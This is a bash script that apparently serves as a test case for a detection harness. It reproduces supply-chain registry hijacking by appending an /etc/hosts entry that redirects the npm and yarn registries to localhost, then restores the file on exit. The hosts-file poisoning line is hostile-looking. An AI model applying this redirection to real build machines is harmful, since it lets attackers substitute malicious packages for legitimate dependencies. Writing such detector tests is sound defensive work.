#!/bin/bash
# technique: T1195.001 Supply Chain Compromise: Compromise Software Dependencies and Development Tools; T1557 Adversary-in-the-Middle
# reproduces: package registries redirected through /etc/hosts so that later installs on the runner fetch the attacker's packages (hosts-file poisoning of registry.npmjs.org / pypi.org, as in the dependency-hijack demonstrations against CI runners and the DNS-hijack step of Shai-Hulud 2.0's privilege escalation)
# expect: dependency-source-redirected ^bash$
# exec-borne: no
#
# The line is appended, kept while the step "builds", and the file put
# back exactly (EXIT trap; the harness checks /etc/hosts too).
set -u

[ -w /etc/hosts ] || { echo "/etc/hosts is not writable here" >&2; exit 77; }
SAVED="${BW_ATTACK_TMP:?}/hosts.saved"
cp -p /etc/hosts "$SAVED"
trap 'cat "$SAVED" >/etc/hosts; rm -f "$SAVED"' EXIT

MIRROR=127.0.0.1
printf '%s\tregistry.npmjs.org registry.yarnpkg.com\n' "$MIRROR" >>/etc/hosts
getent hosts registry.npmjs.org >/dev/null || true
sleep 0.3
